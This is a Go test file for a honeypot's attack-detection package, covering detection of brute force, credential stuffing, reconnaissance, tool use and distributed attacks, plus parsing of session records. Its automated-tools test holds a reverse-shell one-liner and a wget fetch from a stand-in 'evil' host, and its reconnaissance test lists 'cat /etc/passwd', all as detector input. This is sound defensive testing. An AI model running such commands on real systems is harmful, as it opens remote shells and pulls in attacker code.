package detection

import (
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/0tSystemsPublicRepos/hpti/internal/session"
)

var base = time.Date(2024, 3, 1, 12, 0, 0, 0, time.UTC)

func strPtr(s string) *string { return &s }

func attempt(offset time.Duration, user, pass string) session.AuthAttempt {
	return session.AuthAttempt{
		Timestamp: base.Add(offset),
		Username:  user,
		Password:  strPtr(pass),
		Method:    session.AuthPassword,
	}
}

func record(id, ip string, attempts ...session.AuthAttempt) session.Record {
	end := base.Add(time.Minute)
	return session.Record{
		SessionID:    id,
		SourceIP:     ip,
		Protocol:     session.ProtocolSSH,
		StartTime:    base,
		EndTime:      &end,
		AuthAttempts: attempts,
	}
}

func findPattern(patterns []AttackPattern, typ PatternType) *AttackPattern {
	for i := range patterns {
		if patterns[i].PatternType == typ {
			return &patterns[i]
		}
	}
	return nil
}

func newTestDetector() *Detector {
	d := NewDetector(10 * time.Minute)
	d.now = func() time.Time { return base.Add(2 * time.Minute) }
	return d
}

func TestBruteForce_SixAttempts(t *testing.T) {
	var attempts []session.AuthAttempt
	for i := 0; i < 6; i++ {
		attempts = append(attempts, attempt(time.Duration(i)*600*time.Millisecond, "root", "pw"))
	}
	rec := record("s1", "10.0.0.5", attempts...)

	p := findPattern(newTestDetector().AnalyzeSession(rec), PatternBruteForce)
	require.NotNil(t, p)
	assert.Equal(t, SeverityLow, p.Severity)
	assert.Equal(t, 12.0, p.ConfidenceScore)
	assert.Equal(t, 6, p.OccurrenceCount)
	assert.Equal(t, 6, p.Indicators["attempt_count"])
	assert.Equal(t, 1, p.Indicators["unique_credentials"])
	assert.Equal(t, 2.0, p.Indicators["attempt_rate_per_second"])
	assert.Equal(t, []string{"10.0.0.5"}, p.SourceIPs)
	assert.Equal(t, []string{"s1"}, p.SessionIDs)
}

func TestBruteForce_FiveAttemptsIsQuiet(t *testing.T) {
	var attempts []session.AuthAttempt
	for i := 0; i < 5; i++ {
		attempts = append(attempts, attempt(time.Duration(i)*time.Second, "root", "pw"))
	}
	patterns := newTestDetector().AnalyzeSession(record("s1", "10.0.0.5", attempts...))
	assert.Nil(t, findPattern(patterns, PatternBruteForce))
}

func TestBruteForce_SeverityBands(t *testing.T) {
	tests := []struct {
		n    int
		want Severity
	}{
		{11, SeverityMedium},
		{21, SeverityHigh},
		{51, SeverityCritical},
	}
	for _, tt := range tests {
		var attempts []session.AuthAttempt
		for i := 0; i < tt.n; i++ {
			attempts = append(attempts, attempt(time.Duration(i)*time.Second, "root", "pw"))
		}
		p := detectBruteForce(record("s", "10.0.0.1", attempts...))
		require.NotNil(t, p)
		assert.Equal(t, tt.want, p.Severity, "n=%d", tt.n)
		assert.LessOrEqual(t, p.ConfidenceScore, 100.0)
	}
}

func TestCredentialStuffing_UniquePairs(t *testing.T) {
	var attempts []session.AuthAttempt
	for i := 0; i < 12; i++ {
		attempts = append(attempts, attempt(time.Duration(i)*time.Second, fmt.Sprintf("user%d", i), fmt.Sprintf("pass%d", i)))
	}

	p := findPattern(newTestDetector().AnalyzeSession(record("s1", "10.0.0.9", attempts...)), PatternCredentialStuffing)
	require.NotNil(t, p)
	assert.Equal(t, SeverityHigh, p.Severity)
	assert.InDelta(t, 100.0, p.ConfidenceScore, 0.001)
	assert.Equal(t, 12, p.Indicators["unique_credentials"])
	assert.Len(t, p.Indicators["sample_usernames"], 10)
}

func TestCredentialStuffing_RepeatedPairsRejected(t *testing.T) {
	var attempts []session.AuthAttempt
	for i := 0; i < 12; i++ {
		for r := 0; r < 4; r++ {
			attempts = append(attempts, attempt(time.Second, fmt.Sprintf("user%d", i), "pw"))
		}
	}
	require.Len(t, attempts, 48)

	patterns := newTestDetector().AnalyzeSession(record("s1", "10.0.0.9", attempts...))
	assert.Nil(t, findPattern(patterns, PatternCredentialStuffing))
	assert.NotNil(t, findPattern(patterns, PatternBruteForce))
}

func TestReconnaissance(t *testing.T) {
	rec := record("s1", "10.0.0.7")
	for i, cmd := range []string{"whoami", "uname -a", "cat /etc/passwd", "echo hi"} {
		rec.Commands = append(rec.Commands, session.CommandEvent{Timestamp: base.Add(time.Duration(i) * time.Second), RawText: cmd})
	}

	p := detectReconnaissance(rec)
	require.NotNil(t, p)
	assert.Equal(t, SeverityMedium, p.Severity)
	assert.Equal(t, 30.0, p.ConfidenceScore)
	assert.Equal(t, 4, p.Indicators["total_commands"])
	assert.Equal(t, 75.0, p.Indicators["recon_percentage"])
}

func TestAutomatedTools(t *testing.T) {
	rec := record("s1", "10.0.0.7")
	for _, cmd := range []string{"wget http://evil/x.sh", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "ls"} {
		rec.Commands = append(rec.Commands, session.CommandEvent{Timestamp: base, RawText: cmd})
	}

	p := detectAutomatedTools(rec)
	require.NotNil(t, p)
	assert.Equal(t, SeverityHigh, p.Severity)
	assert.Equal(t, []string{"wget_curl", "reverse_shell"}, p.Indicators["detected_tools"])
	assert.Equal(t, 60.0, p.ConfidenceScore)
	assert.Len(t, p.Indicators["suspicious_commands"], 2)
}

func TestDistributedAttack_ThreeIPs(t *testing.T) {
	recs := []session.Record{
		record("a", "10.0.0.1", attempt(0, "admin", "admin123")),
		record("b", "10.0.0.2", attempt(0, "admin", "admin123")),
		record("c", "10.0.0.3", attempt(0, "admin", "admin123")),
	}

	p := newTestDetector().DetectDistributedAttack(recs)
	require.NotNil(t, p)
	assert.Equal(t, SeverityCritical, p.Severity)
	assert.Equal(t, 30.0, p.ConfidenceScore)
	assert.Equal(t, 1, p.OccurrenceCount)
	assert.Equal(t, []string{"10.0.0.1", "10.0.0.2", "10.0.0.3"}, p.SourceIPs)

	common := p.Indicators["common_credentials"].([]map[string]interface{})
	require.Len(t, common, 1)
	assert.Equal(t, "adm***", common[0]["password"])
	assert.False(t, strings.Contains(fmt.Sprint(p.Indicators), "admin123"))
}

func TestDistributedAttack_TwoIPsIsQuiet(t *testing.T) {
	recs := []session.Record{
		record("a", "10.0.0.1", attempt(0, "admin", "admin123")),
		record("b", "10.0.0.2", attempt(0, "admin", "admin123")),
		record("c", "10.0.0.2", attempt(0, "admin", "admin123")),
	}
	assert.Nil(t, newTestDetector().DetectDistributedAttack(recs))
	assert.Nil(t, newTestDetector().DetectDistributedAttack(recs[:2]))
}

func TestCorrelateWindow_PrunesExpired(t *testing.T) {
	d := newTestDetector()
	d.AnalyzeSession(record("a", "10.0.0.1", attempt(0, "root", "toor")))
	d.AnalyzeSession(record("b", "10.0.0.2", attempt(0, "root", "toor")))
	d.AnalyzeSession(record("c", "10.0.0.3", attempt(0, "root", "toor")))
	require.Equal(t, 3, d.WindowSize())

	require.NotNil(t, d.CorrelateWindow())

	d.now = func() time.Time { return base.Add(time.Hour) }
	assert.Nil(t, d.CorrelateWindow())
	assert.Equal(t, 0, d.WindowSize())
}

func TestAnalyzeBatch(t *testing.T) {
	var brute []session.AuthAttempt
	for i := 0; i < 7; i++ {
		brute = append(brute, attempt(time.Duration(i)*time.Second, "root", "123456"))
	}
	recs := []session.Record{
		record("a", "10.0.0.1", brute...),
		record("b", "10.0.0.2", attempt(0, "root", "123456")),
		record("c", "10.0.0.3", attempt(0, "root", "123456")),
	}

	result := newTestDetector().AnalyzeBatch(recs)
	assert.Len(t, result.PerSession, 1)
	assert.NotNil(t, findPattern(result.PerSession["a"], PatternBruteForce))
	require.NotNil(t, result.Distributed)
	assert.Equal(t, 3, result.Distributed.Indicators["ip_count"])
}

func TestEmptySession(t *testing.T) {
	assert.Empty(t, newTestDetector().AnalyzeSession(record("a", "10.0.0.1")))
}

func TestDecodeRecords_JSONLines(t *testing.T) {
	input := `{"session_id":"a","source_ip":"10.0.0.1","protocol":"ssh","start_time":"2024-03-01T12:00:00","auth_attempts":[{"timestamp":"2024-03-01T12:00:01.5","username":"root","password":"toor"}]}
not json
{"session_id":"b","source_ip":"10.0.0.2","protocol":"ftp","start_time":"garbage"}
{"session_id":"c","source_ip":"10.0.0.3","protocol":"telnet","start_time":"2024-03-01T12:00:00Z","commands":[{"raw_text":"whoami"}]}
`
	recs, err := DecodeRecords(strings.NewReader(input))
	require.NoError(t, err)
	require.Len(t, recs, 2)

	assert.Equal(t, "a", recs[0].SessionID)
	assert.Equal(t, base, recs[0].StartTime)
	require.Len(t, recs[0].AuthAttempts, 1)
	assert.Equal(t, session.AuthPassword, recs[0].AuthAttempts[0].Method)
	assert.Equal(t, "whoami", recs[1].Commands[0].RawText)
}

func TestDecodeRecords_Array(t *testing.T) {
	recs, err := DecodeRecords(strings.NewReader(`[{"session_id":"a","start_time":"2024-03-01 12:00:00"}]`))
	require.NoError(t, err)
	require.Len(t, recs, 1)
	assert.Equal(t, base, recs[0].StartTime)
}

func TestDecodeRecords_SkipsMalformedEventTimestamps(t *testing.T) {
	input := `{"session_id":"a","source_ip":"10.0.0.9","protocol":"ssh","start_time":"2024-03-01T12:00:00Z","auth_attempts":[` +
		`{"timestamp":"garbage","username":"root","password":"x0"},` +
		`{"timestamp":"2024-03-01T12:00:00Z","username":"root","password":"x1"},` +
		`{"timestamp":"2024-03-01T12:00:00.5Z","username":"root","password":"x2"},` +
		`{"timestamp":"2024-03-01T12:00:01Z","username":"root","password":"x3"},` +
		`{"timestamp":"2024-03-01T12:00:01.5Z","username":"root","password":"x4"},` +
		`{"timestamp":"2024-03-01T12:00:02Z","username":"root","password":"x5"},` +
		`{"timestamp":"2024-03-01T12:00:02.5Z","username":"root","password":"x6"}],` +
		`"commands":[{"timestamp":"yesterday","raw_text":"uname -a"},{"raw_text":"id"}]}`

	recs, err := DecodeRecords(strings.NewReader(input))
	require.NoError(t, err)
	require.Len(t, recs, 1)

	rec := recs[0]
	require.Len(t, rec.AuthAttempts, 6)
	for _, a := range rec.AuthAttempts {
		assert.False(t, a.Timestamp.IsZero())
	}
	require.Len(t, rec.Commands, 1)
	assert.Equal(t, "id", rec.Commands[0].RawText)
	assert.Equal(t, base, rec.Commands[0].Timestamp)

	p := findPattern(newTestDetector().AnalyzeSession(rec), PatternBruteForce)
	require.NotNil(t, p)
	assert.Equal(t, base, p.FirstSeen)
	assert.Equal(t, 2.4, p.Indicators["attempt_rate_per_second"])
}

func TestBruteForce_IgnoresUnsetTimestamps(t *testing.T) {
	var attempts []session.AuthAttempt
	for i := 0; i < 6; i++ {
		attempts = append(attempts, attempt(time.Duration(i)*time.Second, "root", fmt.Sprintf("pw%d", i)))
	}
	attempts[0].Timestamp = time.Time{}
	rec := record("s1", "10.0.0.5", attempts...)

	p := findPattern(newTestDetector().AnalyzeSession(rec), PatternBruteForce)
	require.NotNil(t, p)
	assert.Equal(t, base.Add(time.Second), p.FirstSeen)
	assert.Equal(t, base.Add(5*time.Second), p.LastSeen)
	assert.Equal(t, 1.5, p.Indicators["attempt_rate_per_second"])
}

func TestDetector_ConcurrentAnalyzeSession(t *testing.T) {
	d := newTestDetector()

	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 25; i++ {
				ip := fmt.Sprintf("203.0.113.%d", g)
				d.AnalyzeSession(record(fmt.Sprintf("s-%d-%d", g, i), ip, attempt(0, "admin", "admin123")))
				if i%5 == 0 {
					d.CorrelateWindow()
					d.WindowSize()
				}
			}
		}(g)
	}
	wg.Wait()

	assert.Equal(t, 200, d.WindowSize())
	p := d.CorrelateWindow()
	require.NotNil(t, p)
	assert.Equal(t, PatternDistributedAttack, p.PatternType)
	assert.Len(t, p.SourceIPs, 8)
}
